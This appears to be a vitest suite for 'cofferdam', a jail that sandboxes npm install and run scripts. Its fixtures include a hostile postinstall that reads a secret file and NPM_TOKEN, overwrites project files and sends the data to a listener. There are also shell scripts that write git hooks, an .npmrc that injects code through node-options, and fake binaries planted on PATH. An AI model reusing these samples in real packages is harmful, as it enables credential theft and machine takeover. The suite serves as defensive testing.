/** Plain npm with `eval "$(cofferdam shell-init)"`: real npm, our script shell, a real jail. */
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { requires } from "../world/needs.ts";
import { outcomeOf } from "../world/project.ts";
import { ShellWorld } from "../world/shell-world.ts";

/** A host that a hostile script would report to. */
class Listener implements AsyncDisposable {
  readonly asked: string[] = [];
  readonly #server: Server = createServer((request, response) => {
    this.asked.push(request.url ?? "");
    response.end();
  });

  static async start(): Promise<Listener> {
    const listener = new Listener();
    await new Promise<void>((resolve) => listener.#server.listen(0, "127.0.0.1", resolve));
    return listener;
  }

  get url(): string {
    const address: AddressInfo | string | null = this.#server.address();
    if (address === null || typeof address === "string") throw new Error("no address");
    return `http://127.0.0.1:${address.port}/`;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

/** Tells a host the secret of the home folder and the environment, writes into the project, and builds something. */
const HOSTILE = (secret: string, host: string): string => `
const fs = require("node:fs");
const attempt = (work) => { try { return String(work()); } catch (error) { return error.code; } };
const loot = {
  secret: attempt(() => fs.readFileSync(${JSON.stringify(secret)})),
  token: String(process.env.NPM_TOKEN),
  project: attempt(() => fs.writeFileSync("../../src.js", "pwned")),
  manifest: attempt(() => fs.writeFileSync("../../package.json", "{}")),
};
fs.writeFileSync("built.json", JSON.stringify(loot));
fetch(${JSON.stringify(host)} + "?" + encodeURIComponent(JSON.stringify(loot))).catch(() => {});
`;

describe.each(["root", "user"] as const)("as %s", (as) => {
  test("npm ci: a hostile postinstall reads no secret and reaches no host, and its build output comes back", async (context) => {
    requires(context, "jail");
    if (as === "root") requires(context, "root");
    await using host = await Listener.start();
    await using world = await ShellWorld.make(as, { dependencies: { hostile: "1.0.0" } });
    const { project, registry } = world;
    registry.publish({
      name: "hostile",
      version: "1.0.0",
      manifest: { scripts: { postinstall: "node steal.js" } },
      files: { "steal.js": HOSTILE(world.secret, host.url) },
    });
    await project.lock();
    // Without the jail it gets everything.
    await world.npm(["ci"], { npm_config_script_shell: "" });
    const free = JSON.parse(project.read("node_modules/hostile/built.json"));
    expect(free).toEqual({ secret: "planted-secret\n", token: "planted-token", project: "undefined", manifest: "undefined" });
    expect(host.asked).toHaveLength(1);
    project.write("src.js", "mine");
    project.write("package.json", JSON.stringify({ name: "project", version: "1.0.0", dependencies: { hostile: "1.0.0" } }));
    const { exit, stderr } = await world.npm(["ci", "--foreground-scripts"]);
    expect(exit, stderr).toBe(0);
    expect(JSON.parse(project.read("node_modules/hostile/built.json"))).toEqual({ secret: "ENOENT", token: "undefined", project: "EROFS", manifest: "EROFS" });
    expect(host.asked).toHaveLength(1);
    expect(project.read("src.js")).toBe("mine");
    expect(stderr).toContain(`cofferdam: refused hostile@1.0.0 postinstall: read ${world.secret} (dash > node): hidden`);
    const [event] = await world.events();
    expect(event).toMatchObject({
      result: "success",
      details: { door: "script-shell", package: "hostile@1.0.0", script: "postinstall", basis: "unlisted", exit: 0 },
    });
  });

  test("npm run and npx: the project is theirs but for what others obey; commands of node_modules work", async (context) => {
    requires(context, "jail");
    if (as === "root") requires(context, "root");
    const build =
      "mkdir -p dist node_modules/.cache/x && tool > dist/out; echo t=$NPM_TOKEN >> dist/out; cat SECRET; echo x > .git/hooks/pre-commit; echo '{}' > package.json; npm run -s inner";
    await using world = await ShellWorld.make(as, { scripts: { build, inner: "echo inner >> dist/out" } });
    const { project } = world;
    project.write(".git/config", "");
    project.write(".npmrc", "script-shell=/bin/false\n");
    mkdirSync(join(project.root, ".git/hooks"));
    project.write("node_modules/tool/package.json", JSON.stringify({ name: "tool", version: "1.0.0", bin: "cli.js" }));
    project.write("node_modules/tool/cli.js", "#!/usr/bin/env node\nconsole.log('tool ran');\n");
    chmodSync(join(project.root, "node_modules/tool/cli.js"), 0o755);
    mkdirSync(join(project.root, "node_modules/.bin"));
    symlinkSync("../tool/cli.js", join(project.root, "node_modules/.bin/tool"));
    const manifest = project.read("package.json").replace("cat SECRET", `cat ${world.secret}`);
    project.write("package.json", manifest);
    const run = await world.npm(["run", "build"]);
    expect(run.exit, run.stderr).toBe(0);
    expect(project.read("dist/out")).toBe("tool ran\nt=\ninner\n");
    expect(project.has(".git/hooks/pre-commit")).toBe(false);
    expect(project.read("package.json")).toBe(manifest);
    expect(project.has("node_modules/.cache/x")).toBe(true);
    expect(run.stderr).toContain("cofferdam: refused project@1.0.0 build: write ");
    // Without the variable of shell-init it is npm's own Node.
    const npx = await world.run("npx", ["tool"], { COFFERDAM_NODE: "" });
    expect([npx.exit, npx.stdout], npx.stderr).toEqual([0, "tool ran\n"]);
  });
});

describe.each(["root", "user"] as const)("while a script of %s runs", (as) => {
  test("what the user does in the project stays, and what git or npm would obey is held back, not removed", async (context) => {
    requires(context, "jail");
    if (as === "root") requires(context, "root");
    await using world = await ShellWorld.make(as, {
      scripts: { slow: "mkdir .git && echo x > .npmrc; rm old; echo theirs > both; echo started; while [ ! -e go ]; do sleep 0.1; done" },
    });
    const { project } = world;
    for (const name of ["mine", "both", "old"]) project.write(name, "before");
    project.write("cofferdam.yaml", "version: 1\n");
    // As root the script works on a copy and does not see what is made meanwhile.
    const body = as === "root" ? project.read("package.json").replace("while [ ! -e go ]; do sleep 0.1; done", "sleep 1") : project.read("package.json");
    project.write("package.json", body);
    const child = world.start("npm", ["run", "-s", "slow"]);
    child.stdout?.once("data", () => {
      for (const name of ["mine", "new/file", "go", ...(as === "root" ? ["both"] : [])]) project.write(name, "edited meanwhile");
    });
    const { exit, stderr } = await outcomeOf(child);
    expect(exit, stderr).toBe(0);
    for (const name of ["mine", "new/file", "go"]) expect(project.read(name), name).toBe("edited meanwhile");
    expect(project.read("both").trim()).toBe(as === "root" ? "edited meanwhile" : "theirs");
    if (as === "root") expect(stderr).toContain("cofferdam: left out both: it was changed outside meanwhile");
    expect(project.has("old")).toBe(false);
    expect(["package.json", ".git", ".npmrc"].map((name) => project.has(name))).toEqual([true, false, false]);
    expect(stderr).toMatch(as === "root" ? /left out \.git: may not be made here/ : /left out \.git: made while the script ran; it is \.git\.held-\d+ now/);
  });
});

describe("exit codes", () => {
  test.each([
    ["exit 7", 7],
    ["kill -TERM $$", 143],
  ])("%s", async (body, expected) => {
    await using world = await ShellWorld.make("root");
    const { exit, stderr } = await world.run(world.shell, ["-c", body]);
    expect(exit, stderr).toBe(expected);
  });

  test("Ctrl-C ends the jail: 130, twice from the terminal and from npm is once, and nothing goes on", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { scripts: { slow: "trap 'echo tidied; exit 1' TERM; echo started; sleep 4717 & wait" } });
    const child = world.start("npm", ["run", "slow"]);
    child.stdout?.on("data", (text: Buffer) => {
      if (String(text).includes("started\n") && !String(text).includes("echo")) for (let i = 0; i < 2; i++) child.kill("SIGINT");
    });
    const { exit, stdout } = await outcomeOf(child);
    expect([exit, stdout.includes("\ntidied\n")], stdout).toEqual([130, true]);
    expect(commandLines()).not.toContain("sleep 4717");
  });

  test("scripts.timeout ends a lifecycle script, and not npm run", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { scripts: { prepare: "sleep 60", slow: "sleep 1.2; echo done" } });
    world.project.write("cofferdam.yaml", "version: 1\nscripts: {timeout: 1s}\n");
    const prepare = await world.npm(["install"]);
    expect([prepare.exit, prepare.stderr.includes("cofferdam: stopped DEADLINE_EXCEEDED")], prepare.stderr).toEqual([124, true]);
    const slow = await world.npm(["run", "-s", "slow"]);
    expect([slow.exit, slow.stdout], slow.stderr).toEqual([0, "done\n"]);
  });

  test("anything but -c SCRIPT is refused", async () => {
    await using world = await ShellWorld.make("root");
    for (const args of [[], ["-c"], ["-c", "true", "x"], ["-l", "-c", "true"], ["-s"], ["x.sh"]])
      expect((await world.run(world.shell, args)).exit, args.join(" ")).toBe(2);
  });
});

describe("who may say what", () => {
  test("a project's .npmrc cannot switch it off, nor load code into it, nor put its own node in the way", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { scripts: { t: "touch ran; cat ../home/secret" } });
    const { project } = world;
    project.write("evil.js", `require("node:fs").writeFileSync(${JSON.stringify(join(project.base, "pwned"))}, "")`);
    project.write(".npmrc", `script-shell=/bin/sh\nnode-options=--require ${project.root}/evil.js\n`);
    project.write("node_modules/.bin/node", `#!/bin/sh\ntouch ${project.base}/pwned\n`);
    for (const name of ["readlink", "sh", "bwrap", "env"]) project.write(`node_modules/.bin/${name}`, `#!/bin/sh\ntouch ${project.base}/pwned\n`);
    for (const name of ["node", "readlink", "sh", "bwrap", "env"]) chmodSync(join(project.root, "node_modules/.bin", name), 0o755);
    // Links where programs of PATH are looked for: among the commands, also those above the project, and in a folder of it.
    const tools = join(project.root, "tools");
    for (const folder of [join(project.root, "node_modules/.bin"), join(project.base, "node_modules/.bin"), tools]) {
      mkdirSync(folder, { recursive: true });
      symlinkSync(world.secret, join(folder, "bun"));
    }
    const { exit, stdout, stderr } = await world.npm(["run", "t"], { PATH: `${world.env["PATH"]}:${tools}` });
    expect([exit, stderr.includes("No such file")], stderr).toEqual([1, true]);
    expect(project.has("ran")).toBe(true);
    expect(stdout).not.toContain("planted-secret");
    expect(existsSync(join(project.base, "pwned"))).toBe(false);
  });

  test("a forged environment selects nothing wider", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { dependencies: { dep: "1.0.0", other: "1.0.0" } });
    const { project } = world;
    project.write("cofferdam.yaml", "version: 1\n");
    for (const name of ["dep", "other"]) project.write(`node_modules/${name}/package.json`, JSON.stringify({ name, version: "1.0.0" }));
    const dep = join(project.root, "node_modules/dep");
    const honest = {
      npm_package_json: join(dep, "package.json"),
      npm_package_name: "dep",
      npm_package_version: "1.0.0",
      npm_lifecycle_event: "postinstall",
      npm_command: "ci",
    };
    const shell = (env: NodeJS.ProcessEnv, body = "touch own; touch ../../project-written"): ReturnType<ShellWorld["run"]> =>
      world.run(world.shell, ["-c", body], { ...honest, ...env }, dep);
    expect((await shell({}, "touch own")).exit).toBe(0);
    expect(project.has("node_modules/dep/own")).toBe(true);
    // The project's package.json, another package's, one that is not there; another name, another version.
    for (const env of [
      { npm_package_json: join(project.root, "package.json") },
      { npm_package_json: join(project.root, "node_modules/other/package.json") },
      { npm_package_json: join(dep, "nowhere/package.json") },
      { npm_package_json: "package.json" },
      { npm_package_name: "other" },
      { npm_package_version: "2.0.0" },
    ]) {
      const { exit, stderr } = await shell(env);
      expect([exit, stderr.includes("SECURITY_VIOLATION")], `${JSON.stringify(env)} ${stderr}`).toEqual([3, true]);
    }
    // As if the user had asked for it: the place still says that it is a dependency.
    for (const env of [
      { npm_command: "run", npm_lifecycle_event: "build" },
      { npm_command: "exec", npm_lifecycle_event: "npx" },
      { npm_package_json: undefined, npm_package_name: undefined },
    ])
      await shell(env);
    // Nor may a workflow's variables lower the level.
    await shell({ COFFERDAM_LEVEL: "low", COFFERDAM_MODE: "observe", npm_config_local_prefix: "/", INIT_CWD: "/", npm_execpath: "/root/x/y.js" });
    expect(project.has("project-written")).toBe(false);
    expect(project.has("own")).toBe(false);
    const levels = new Set((await world.events()).map((event) => `${event.details["level"]} ${event.details["mode"]}`));
    expect([...levels]).toEqual(["medium enforce"]);
    const bases = new Set((await world.events()).map((event) => event.details["basis"]));
    expect([...bases]).toEqual(["unlisted"]);
    // An npm that passes over what nobody approved has an answer, even if the one on PATH has not.
    const newer = await shell({ npm_config_npm_version: "12.2.1" });
    expect([newer.exit, newer.stderr.includes("not in allowScripts of package.json; it did not run")], newer.stderr).toEqual([3, true]);
    // A variable may raise it: high runs no script that is not approved with its hash.
    const high = await shell({ COFFERDAM_LEVEL: "high" });
    expect([high.exit, high.stderr], high.stderr).toEqual([
      3,
      expect.stringContaining("cofferdam: refused dep@1.0.0 postinstall: not approved with its hash; it did not run"),
    ]);
  });

  test("what is not run is said, and fails the install; what the team denied is passed over as npm does", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { scripts: { build: "touch ran" }, allowScripts: { dep: false } });
    const { project } = world;
    project.write("node_modules/dep/package.json", JSON.stringify({ name: "dep", version: "1.0.0" }));
    const denied = await world.run(world.shell, ["-c", "touch ran"], { npm_lifecycle_event: "postinstall" }, join(project.root, "node_modules/dep"));
    expect([denied.exit, denied.stderr]).toEqual([0, "cofferdam: skipped dep@1.0.0 postinstall: denied by dep in allowScripts of package.json\n"]);
    expect(project.has("node_modules/dep/ran")).toBe(false);
    const paranoid = await world.npm(["run", "build"], { COFFERDAM_LEVEL: "paranoid" });
    expect([paranoid.exit, project.has("ran")], paranoid.stderr).toEqual([3, false]);
    expect(paranoid.stderr).toContain("cofferdam: refused project@1.0.0 build: level paranoid runs no scripts; it did not run");
  });

  test("a home folder is never shown as a project", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root");
    const { exit, stderr } = await world.run(world.shell, ["-c", "cat secret"], {}, world.project.home);
    expect([exit, stderr.includes("FAILED_PRECONDITION")], stderr).toEqual([2, true]);
    writeFileSync(join(world.project.home, "package.json"), "{}");
    mkdirSync(join(world.project.home, "x"));
    const below = await world.run(world.shell, ["-c", "cat ../secret; touch made"], { npm_lifecycle_event: "npx" }, join(world.project.home, "x"));
    expect(below.stdout).toBe("");
    expect(existsSync(join(world.project.home, "x/made"))).toBe(true);
  });
});

describe("when something is missing", () => {
  test("no jail: nothing runs, exit 7; level low runs it, and says so loudly", async () => {
    await using world = await ShellWorld.make("root", { scripts: { t: "echo ran > ran; exit 5" } });
    const { project } = world;
    // An unusable bubblewrap cannot be named by PATH; a copy of ours without its helper has none.
    const bare = join(project.base, "bare");
    mkdirSync(join(bare, "bin"), { recursive: true });
    for (const name of ["cofferdam-script-shell", "script-shell.js"])
      writeFileSync(join(bare, "bin", name), readFileSync(join(world.shell, "..", name)), { mode: 0o755 });
    execFileSync("cp", ["-r", join(world.shell, "../../dist"), join(world.shell, "../../package.json"), bare]);
    execFileSync("rm", ["-r", join(bare, "dist/native")]);
    symlinkSync(join(world.shell, "../../node_modules"), join(bare, "node_modules"));
    const shell = { npm_config_script_shell: join(bare, "bin/cofferdam-script-shell") };
    const refused = await world.npm(["run", "t"], shell);
    expect([refused.exit, project.has("ran")], refused.stderr).toEqual([7, false]);
    expect(refused.stderr).toContain("ENVIRONMENT_UNFIT");
    project.write("cofferdam.yaml", "version: 1\nlevel: low\n");
    const repository = await world.npm(["run", "t"], shell);
    expect([repository.exit, project.has("ran")], repository.stderr).toEqual([7, false]);
    mkdirSync(join(project.home, ".config/cofferdam"), { recursive: true });
    writeFileSync(join(project.home, ".config/cofferdam/cofferdam.yaml"), "version: 1\nlevel: low\n");
    const low = await world.npm(["run", "t"], shell);
    expect([low.exit, project.has("ran")], low.stderr).toEqual([5, true]);
    expect(low.stderr).toContain("cofferdam: WITHOUT A JAIL, because level low allows it: project@1.0.0 t");
  });

  test("no trail: nothing runs, exit 6", async (context) => {
    requires(context, "jail");
    await using world = await ShellWorld.make("root", { scripts: { t: "touch ran" } });
    rmSync(world.project.state, { recursive: true });
    writeFileSync(world.project.state, "a file");
    const { exit, stderr } = await world.npm(["run", "t"]);
    expect([exit, stderr.includes("AUDIT_UNAVAILABLE"), world.project.has("ran")], stderr).toEqual([6, true, false]);
    const inside = await world.npm(["run", "t"], { COFFERDAM_STATE: join(world.project.root, "state") });
    expect([inside.exit, world.project.has("ran")], inside.stderr).toEqual([2, false]);
  });
});

test("shell-init: its lines work in real shells, take over from another spelling, and end it again", async () => {
  await using world = await ShellWorld.make("root");
  const cli = world.project
    .command("shell-init")
    .map((word) => `'${word}'`)
    .join(" ");
  const show = 'echo "$npm_config_script_shell|$COFFERDAM_NODE|$NPM_CONFIG_SCRIPT_SHELL"';
  for (const shell of ["sh", "bash"]) {
    const env = { npm_config_script_shell: "/bin/false", NPM_CONFIG_SCRIPT_SHELL: "/bin/false" };
    const on = await world.run(shell, ["-c", `eval "$(${cli} ${shell})"; ${show}; eval "$(${cli} --off)"; ${show}`], env);
    expect(on.stdout, on.stderr).toBe(`${world.shell}|${process.execPath}|\n||\n`);
  }
  expect((await world.project.cli(["shell-init", "tcsh"])).exit).toBe(2);
  const state = async (env: NodeJS.ProcessEnv): Promise<unknown> => {
    const { stdout } = await world.project.cli(["doctor", "--json"], { env });
    return JSON.parse(stdout).checks.find((check: { name: string }) => check.name === "script shell").status;
  };
  expect(await state({ npm_config_script_shell: world.shell })).toBe("ok");
  expect(await state({ NPM_CONFIG_SCRIPT_SHELL: "/bin/bash" })).toBe("warn");
});

/** Of every process there is. */
function commandLines(): string[] {
  return readdirSync("/proc")
    .filter((name) => /^[0-9]+$/.test(name))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0").join(" ").trim();
      } catch {
        // Gone in between.
        return "";
      }
    });
}
